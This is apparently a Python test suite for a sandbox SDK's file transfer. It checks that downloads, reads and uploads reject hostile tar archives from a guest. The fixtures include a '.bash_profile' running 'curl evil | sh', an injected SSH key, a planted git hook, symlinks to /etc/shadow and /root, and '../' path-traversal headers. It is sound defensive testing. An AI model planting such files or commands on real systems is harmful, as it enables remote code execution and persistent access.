"""Files between the host and a sandbox, with a hostile guest on the other
side: download() lands only what was asked for, all or nothing, by the
rules of ``husk run --get``; read() takes exactly the one file; upload()
sends what the tree held when it was walked and never follows a link.
Every case goes through the SDK's real classes against the fake daemon,
sync and asyncio alike.
"""

from __future__ import annotations

import asyncio
import gzip
import io
import os
import shutil
import stat
import sys
import tarfile
import time
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), ".."))

import husk  # noqa: E402
import husk.aio  # noqa: E402
from husk import _get  # noqa: E402
from husk import _tar  # noqa: E402

from fake_daemon import targz  # noqa: E402
from test_sdk import Base  # noqa: E402


def entry(name, kind=tarfile.REGTYPE, data=None, mode=0o644, link=""):
    t = tarfile.TarInfo(name)
    t.type, t.mode, t.linkname = kind, mode, link
    t.size = len(data) if data is not None else 0
    return t, data


def raw_header(name: bytes, size_field: bytes = b"00000000001\0", kind: bytes = b"0",
               magic: bytes = b"ustar\x0000", prefix: bytes = b"") -> bytes:
    """A ustar header made by hand, for what tarfile will not write."""
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = h[116:124] = b"0000000\0"
    h[124:136] = size_field
    h[136:148] = b"00000000000\0"
    h[156:157] = kind
    h[257:265] = magic
    h[345:345 + len(prefix)] = prefix
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def raw_targz(*blocks: bytes) -> bytes:
    return gzip.compress(b"".join(blocks) + b"\0" * 1024)


def snapshot(root: str) -> dict:
    """Every name below root (links not followed) with its type, mode and
    content or target."""
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for n in dirs + files:
            p = os.path.join(dirpath, n)
            st = os.lstat(p)
            if stat.S_ISLNK(st.st_mode):
                what = ("link", os.readlink(p))
            elif stat.S_ISDIR(st.st_mode):
                what = ("dir", stat.S_IMODE(st.st_mode))
            else:
                with open(p, "rb") as f:
                    what = ("file", stat.S_IMODE(st.st_mode), f.read())
            out[os.path.relpath(p, root)] = what
    return out


def stages(root: str) -> list[str]:
    return [n for n in os.listdir(root) if n.startswith(".husk-get-")]


class Downloads(Base):
    """download() through husk.Sandbox; AsyncDownloads runs the same cases
    through husk.aio.Sandbox."""

    aio = False

    def setUp(self) -> None:
        super().setUp()
        self.home = os.path.join(self.tmp, "home")
        os.makedirs(os.path.join(self.home, ".ssh"))
        os.makedirs(os.path.join(self.home, "repo", ".git", "hooks"))

    def download(self, path, local_dir=None, **kw):
        local_dir = local_dir or self.home
        if not self.aio:
            with self.sandbox() as sb:
                return sb.download(path, local_dir, **kw)

        async def main():
            async with husk.aio.Sandbox("base", socket=self.d.path) as sb:
                return await sb.download(path, local_dir, **kw)
        return asyncio.run(main())

    def refused(self, archive, exc=husk.ProtocolError, path="out", **kw):
        """The download fails with exc and the host directory is as it was."""
        self.d.mode["archive"] = targz(archive) if isinstance(archive, list) else archive
        before = snapshot(self.home)
        with self.assertRaises(exc) as e:
            self.download(path, **kw)
        self.assertEqual(snapshot(self.home), before)
        self.assertEqual(stages(self.home), [])
        return e.exception

    # -- what lands

    def test_only_the_requested_path_lands(self) -> None:
        good = entry("out/result.txt", data=b"42\n")
        for bad in (entry(".bash_profile", data=b"curl evil | sh\n", mode=0o755),
                    entry(".ssh/authorized_keys", data=b"ssh-ed25519 AAAA evil\n"),
                    entry("repo/.git/hooks/post-checkout", data=b"#!/bin/sh\n", mode=0o755),
                    entry("outside", data=b"x"), entry("out2/x", data=b"x"),
                    entry("ou", data=b"x")):
            for archive in ([good, bad], [bad, good], [entry("out/", tarfile.DIRTYPE), good, bad]):
                e = self.refused(archive)
                self.assertIn("only what was asked for", str(e))

    def test_a_nested_path_lands_below_its_parents(self) -> None:
        self.d.mode["archive"] = targz([entry("a/b/", tarfile.DIRTYPE),
                                        entry("a/b/c", data=b"C")])
        got = self.download("./a//b/")
        self.assertEqual(self.d.gets[-1], "a/b")
        self.assertEqual(got, ["a/b/c"])
        with open(os.path.join(self.home, "a", "b", "c"), "rb") as f:
            self.assertEqual(f.read(), b"C")
        self.assertEqual(stages(self.home), [])
        for bad in ("a/x", "a/bc", "a"):
            shutil_rm(os.path.join(self.home, "a"))
            self.refused([entry(bad, data=b"x")], path="a/b")

    def test_a_missing_path_writes_nothing(self) -> None:
        self.d.mode["archive"] = targz([])
        before = snapshot(self.home)
        self.assertEqual(self.download("out"), [])
        self.assertEqual(snapshot(self.home), before)
        self.assertEqual(stages(self.home), [])

    def test_the_files_written_belong_to_the_caller(self) -> None:
        self.d.mode["archive"] = targz([entry("out/", tarfile.DIRTYPE),
                                        entry("out/f", data=b"x")])
        self.assertEqual(self.download("out"), ["out/f"])
        for n in ("out", "out/f"):
            st = os.lstat(os.path.join(self.home, n))
            self.assertEqual((st.st_uid, st.st_gid), (os.geteuid(), os.getegid()))

    # -- nothing existing is replaced or merged into

    def test_an_existing_directory_is_not_merged_into(self) -> None:
        os.makedirs(os.path.join(self.home, "out"))
        with open(os.path.join(self.home, "out", "mine"), "w") as f:
            f.write("keep")
        e = self.refused([entry("out/", tarfile.DIRTYPE), entry("out/conftest.py", data=b"x")],
                         husk.TargetExists)
        self.assertIn("nothing was copied", str(e))

    def test_an_existing_file_or_link_is_not_replaced(self) -> None:
        outside = os.path.join(self.tmp, "outside")
        os.makedirs(outside)
        archive = [entry("out/", tarfile.DIRTYPE), entry("out/f", data=b"x")]
        with open(os.path.join(self.home, "out"), "w") as f:
            f.write("mine")
        self.refused(archive, husk.TargetExists)
        os.unlink(os.path.join(self.home, "out"))
        os.symlink(outside, os.path.join(self.home, "out"))
        self.refused(archive, husk.TargetExists)
        self.assertEqual(os.listdir(outside), [])

    def test_overwrite_replaces_the_name_whole(self) -> None:
        os.makedirs(os.path.join(self.home, "out", "old"))
        with open(os.path.join(self.home, "out", "old", "f"), "w") as f:
            f.write("old")
        self.d.mode["archive"] = targz([entry("out/", tarfile.DIRTYPE),
                                        entry("out/new", data=b"new")])
        self.assertEqual(self.download("out", overwrite=True), ["out/new"])
        self.assertEqual(sorted(os.listdir(os.path.join(self.home, "out"))), ["new"])
        self.assertEqual(stages(self.home), [])
        # A link in the way is replaced as a link: what it points to stays.
        outside = os.path.join(self.tmp, "outside")
        os.makedirs(outside)
        with open(os.path.join(outside, "theirs"), "w") as f:
            f.write("theirs")
        shutil_rm(os.path.join(self.home, "out"))
        os.symlink(outside, os.path.join(self.home, "out"))
        self.assertEqual(self.download("out", overwrite=True), ["out/new"])
        self.assertFalse(os.path.islink(os.path.join(self.home, "out")))
        self.assertEqual(os.listdir(outside), ["theirs"])
        self.assertEqual(stages(self.home), [])

    # -- modes

    def test_modes_are_masked_and_execute_bits_dropped(self) -> None:
        archive = targz([entry("out/", tarfile.DIRTYPE, mode=0o7777),
                         entry("out/suid", data=b"x", mode=0o6777),
                         entry("out/exe", data=b"x", mode=0o755),
                         entry("out/private", data=b"x", mode=0o400)])
        old = os.umask(0o077)
        try:
            for keep, want in ((False, {"out": 0o755, "suid": 0o644, "exe": 0o644,
                                        "private": 0o600}),
                               (True, {"out": 0o755, "suid": 0o755, "exe": 0o755,
                                       "private": 0o600})):
                shutil_rm(os.path.join(self.home, "out"))
                self.d.mode["archive"] = archive
                self.download("out", keep_modes=keep)
                got = {n: stat.S_IMODE(os.lstat(os.path.join(self.home, "out", n)).st_mode)
                       for n in ("suid", "exe", "private")}
                got["out"] = stat.S_IMODE(os.lstat(os.path.join(self.home, "out")).st_mode)
                self.assertEqual(got, want, "keep_modes=%s" % keep)
        finally:
            os.umask(old)

    # -- entry kinds and headers

    def test_links_devices_and_fifos_are_refused(self) -> None:
        for bad in (entry("out/link", tarfile.SYMTYPE, link="/etc"),
                    entry("out/link", tarfile.SYMTYPE, link="../.ssh"),
                    entry("out", tarfile.SYMTYPE, link="/root"),
                    entry("out/hard", tarfile.LNKTYPE, link="/etc/passwd"),
                    entry("out/hard", tarfile.LNKTYPE, link="out/a"),
                    entry("out/chr", tarfile.CHRTYPE), entry("out/blk", tarfile.BLKTYPE),
                    entry("out/fifo", tarfile.FIFOTYPE), entry("out/c", tarfile.CONTTYPE)):
            e = self.refused([entry("out/a", data=b"a"), bad])
            self.assertIn("only files and directories", str(e))

    def test_pax_and_long_link_headers_are_refused(self) -> None:
        pax = io.BytesIO()
        with tarfile.open(fileobj=pax, mode="w:gz", format=tarfile.PAX_FORMAT) as t:
            t.addfile(tarfile.TarInfo("out/\u00e9"), io.BytesIO(b""))
        self.refused(pax.getvalue())
        self.refused([entry("out/l", tarfile.SYMTYPE, link="x" * 200)])

    def test_header_tricks_are_refused(self) -> None:
        neg = b"\xff" + b"\xff" * 11             # base-256 -1
        for archive in (
                raw_targz(raw_header(b"out/f", size_field=neg)),
                raw_targz(raw_header(b"out/./f") + b"x".ljust(512, b"\0")),
                raw_targz(raw_header(b"out//f") + b"x".ljust(512, b"\0")),
                raw_targz(raw_header(b"f", prefix=b"../out") + b"x".ljust(512, b"\0")),
                raw_targz(raw_header(b"out/f", magic=b"ustaz\x0000") + b"x".ljust(512, b"\0")),
                targz([entry("out/f", data=b"1"), entry("out/f", data=b"2")]),
                targz([entry("out/f", data=b"1"), entry("out/f/g", data=b"2")]),
                targz([entry("out/", tarfile.DIRTYPE), entry("out/", tarfile.DIRTYPE)])):
            self.refused(archive)
        # A POSIX prefix is part of the name, as tar.c reads it.
        self.d.mode["archive"] = raw_targz(raw_header(b"f", prefix=b"out") +
                                           b"x".ljust(512, b"\0"))
        self.assertEqual(self.download("out"), ["out/f"])

    def test_a_stream_cut_short_writes_nothing(self) -> None:
        whole = targz([entry("out/", tarfile.DIRTYPE), entry("out/a", data=os.urandom(20000)),
                       entry("out/b", data=b"b")])
        self.refused(whole[:len(whole) // 2])
        self.refused(whole[:-8])
        self.refused(raw_targz(raw_header(b"out/f") + b"x".ljust(512, b"\0"))[:-30])
        self.refused(gzip.compress(raw_header(b"out/f") + b"x".ljust(512, b"\0")))  # no end
        self.refused(whole + b"junk")

    def test_limits(self) -> None:
        e = self.refused([entry("out", data=b"y" * 1000)], max_bytes=10)
        self.assertIn("max_bytes", str(e))

    # -- all or nothing, staged inside the target

    def test_staged_inside_the_target_and_moved_in_after_the_final_ok(self) -> None:
        seen = []

        def before_ok():
            # The client reads as the events come: wait until it staged
            # what was sent (a hang bound, not a timing).
            for _ in range(1000):
                s = stages(self.home)
                if s and os.listdir(os.path.join(self.home, s[0])):
                    break
                time.sleep(0.01)
            seen.append((s, os.path.exists(os.path.join(self.home, "out")),
                         [sorted(os.listdir(os.path.join(self.home, n))) for n in s]))
        self.d.mode.update(archive=targz([entry("out/", tarfile.DIRTYPE),
                                          entry("out/f", data=b"x")]), get_hook=before_ok)
        self.download("out")
        self.assertEqual(len(seen), 1)
        names, out_there, contents = seen[0]
        self.assertEqual(len(names), 1)
        self.assertTrue(names[0].startswith(".husk-get-%d-" % os.getpid()), names)
        self.assertEqual((out_there, contents), (False, [["out"]]))
        self.assertEqual(stages(self.home), [])
        self.assertTrue(os.path.isfile(os.path.join(self.home, "out", "f")))

    def test_an_error_after_the_archive_writes_nothing(self) -> None:
        self.d.mode["get_error"] = ("failed", "the guest went away")
        self.refused([entry("out/", tarfile.DIRTYPE), entry("out/f", data=b"x")], husk.Failed)

    def test_a_daemon_hanging_up_half_way_writes_nothing(self) -> None:
        whole = targz([entry("out/a", data=os.urandom(30000))])
        self.d.mode["get_cut"] = len(whole) // 2
        self.refused(whole, husk.ConnectionFailed)

    def test_files_of_another_path_are_refused(self) -> None:
        self.d.mode["files_path"] = "elsewhere"
        self.refused([entry("out", data=b"x")])

    def test_stale_stages_of_dead_processes_are_removed(self) -> None:
        pid = os.fork()
        if not pid:
            os._exit(0)
        os.waitpid(pid, 0)
        dead = ".husk-get-%d-0" % pid
        alive = ".husk-get-%d-0" % os.getppid()
        for n in (dead, alive):
            os.makedirs(os.path.join(self.home, n, "out"))
        self.d.mode["archive"] = targz([entry("out", data=b"x")])
        self.download("out")
        self.assertEqual(sorted(stages(self.home)), [alive])

    def test_the_sandbox_goes_on_after_a_refused_download(self) -> None:
        self.d.mode["archive"] = targz([entry("out", data=b"x"), entry("evil", data=b"x")])

        def sync():
            with self.sandbox() as sb:
                with self.assertRaises(husk.ProtocolError):
                    sb.download("out", self.home)
                return sb.run("true").exit_code

        async def aio():
            async with husk.aio.Sandbox("base", socket=self.d.path) as sb:
                with self.assertRaises(husk.ProtocolError):
                    await sb.download("out", self.home)
                return (await sb.run("true")).exit_code
        self.assertEqual(asyncio.run(aio()) if self.aio else sync(), 0)
        self.assertEqual(stages(self.home), [])


class AsyncDownloads(Downloads):
    aio = True

    def test_a_cancelled_download_leaves_nothing(self) -> None:
        whole = targz([entry("out/a", data=os.urandom(60000)), entry("out/b", data=b"b")])
        self.d.mode.update(archive=whole, get_cut=len(whole) - 100, get_hang=True)
        before = snapshot(self.home)

        async def main():
            async with husk.aio.Sandbox("base", socket=self.d.path) as sb:
                task = asyncio.create_task(sb.download("out", self.home))
                for _ in range(500):            # until the stream is under way
                    await asyncio.sleep(0.01)
                    s = stages(self.home)
                    if s and os.listdir(os.path.join(self.home, s[0])):
                        break
                self.assertEqual(len(stages(self.home)), 1)
                task.cancel()
                with self.assertRaises(asyncio.CancelledError):
                    await task
                self.assertEqual(stages(self.home), [])
                self.d.mode = {}
                return (await sb.run("true")).exit_code
        self.assertEqual(asyncio.run(main()), 0)
        self.assertEqual(snapshot(self.home), before)


class DownloadsWithoutRenameat2(Downloads):
    """The same cases where the C library has no renameat2: the fallback
    (link, or a check and rename; overwrite moves the old name aside)."""

    def setUp(self) -> None:
        super().setUp()
        self.saved = _get._renameat2
        _get._renameat2 = None

    def tearDown(self) -> None:
        _get._renameat2 = self.saved
        super().tearDown()


def shutil_rm(path: str) -> None:
    if os.path.islink(path) or os.path.isfile(path):
        os.unlink(path)
    elif os.path.isdir(path):
        shutil.rmtree(path)


class Reads(Base):
    def read(self, path, archive, aio=False):
        self.d.mode["archive"] = targz(archive) if isinstance(archive, list) else archive
        if not aio:
            with self.sandbox() as sb:
                return sb.read(path)

        async def main():
            async with husk.aio.Sandbox("base", socket=self.d.path) as sb:
                return await sb.read(path)
        return asyncio.run(main())

    def test_exactly_the_one_file(self) -> None:
        for aio in (False, True):
            self.assertEqual(self.read("./a//f", [entry("a/f", data=b"ok")], aio), b"ok")
            self.assertEqual(self.d.gets[-1], "a/f")
            with self.assertRaises(husk.ProtocolError):
                self.read("f", [entry("f", data=b"one"), entry("f", data=b"two")], aio)
            with self.assertRaises(husk.ProtocolError):
                self.read("f", [entry("f", data=b"one"), entry("g", data=b"two")], aio)
            with self.assertRaises(husk.ProtocolError):
                self.read("f", [entry("g", data=b"two"), entry("f", data=b"one")], aio)
            with self.assertRaises(husk.ProtocolError):
                self.read("f", raw_targz(raw_header(b"f", size_field=b"\xff" * 12)), aio)
            with self.assertRaises(husk.ProtocolError):
                self.read("f", [entry("f", tarfile.SYMTYPE, link="/etc/shadow")], aio)

    def test_a_directory_or_nothing_is_not_a_file(self) -> None:
        with self.assertRaises(husk.HuskError) as e:
            self.read("d", [entry("d/", tarfile.DIRTYPE), entry("d/f", data=b"x")])
        self.assertIn("is a directory", str(e.exception))
        with self.assertRaises(husk.HuskError) as e:
            self.read("nope", [])
        self.assertIn("does not exist", str(e.exception))


class Uploads(Base):
    def tree(self):
        src = os.path.join(self.tmp, "src")
        os.makedirs(os.path.join(src, "sub"))
        for n in ("f", "sub/g"):
            with open(os.path.join(src, n), "w") as f:
                f.write("mine " + n)
        secret = os.path.join(self.tmp, "secret")
        os.makedirs(secret)
        with open(os.path.join(secret, "g"), "w") as f:
            f.write("SECRET")
        return src, secret

    def sent(self, entries) -> bytes:
        return gzip.decompress(b"".join(_tar.tar_stream(entries)))

    def test_a_file_swapped_for_a_link_is_not_followed(self) -> None:
        src, secret = self.tree()
        entries = []
        for name, what in _tar.entries_of_dir(src, "p"):
            entries.append((name, what))
            if name == "p/f":
                # Once listed, the file becomes a link to a secret.
                os.rename(os.path.join(src, "f"), os.path.join(self.tmp, "f.old"))
                os.symlink(os.path.join(secret, "g"), os.path.join(src, "f"))
        self.assertFalse(b"SECRET" in self.sent(entries), "the link was followed")

    def test_a_directory_swapped_for_a_link_is_not_walked(self) -> None:
        src, secret = self.tree()

        def walk():
            for name, what in _tar.entries_of_dir(src, "p"):
                if name == "p/sub":
                    # Listed as a directory; walked after it became a link.
                    os.rename(os.path.join(src, "sub"), os.path.join(self.tmp, "sub.old"))
                    os.symlink(secret, os.path.join(src, "sub"))
                yield name, what
        try:
            data = self.sent(walk())
        except husk.HuskError as e:
            self.assertIn("changed", str(e))
        else:
            self.assertFalse(b"SECRET" in data, "the link was followed")

    def test_an_upload_that_fails_half_way_ends_its_stream(self) -> None:
        big = os.path.join(self.tmp, "big")
        with open(big, "wb") as f:
            f.write(os.urandom(3 << 20))

        class Shrinking(io.FileIO):
            # Ends early, as a file truncated while it is sent.
            def read(self, n=-1):
                return b"" if self.tell() >= 2 << 20 else super().read(n)
        for aio in (False, True):
            if not aio:
                with self.sandbox() as sb, Shrinking(big) as src:
                    with self.assertRaises(husk.HuskError) as e:
                        sb.write("big", src)
                    sb.write("after", b"x")
            else:
                async def main():
                    async with husk.aio.Sandbox("base", socket=self.d.path) as sb:
                        with self.assertRaises(husk.HuskError) as e, Shrinking(big) as src:
                            await sb.write("big", src)
                        await sb.write("after", b"y")
                        return e
                e = asyncio.run(main())
            self.assertIn("changed size", str(e.exception))
            self.assertEqual(self.d.files["after"], b"y" if aio else b"x")
            self.assertNotIn("big", self.d.files)


if __name__ == "__main__":
    unittest.main()
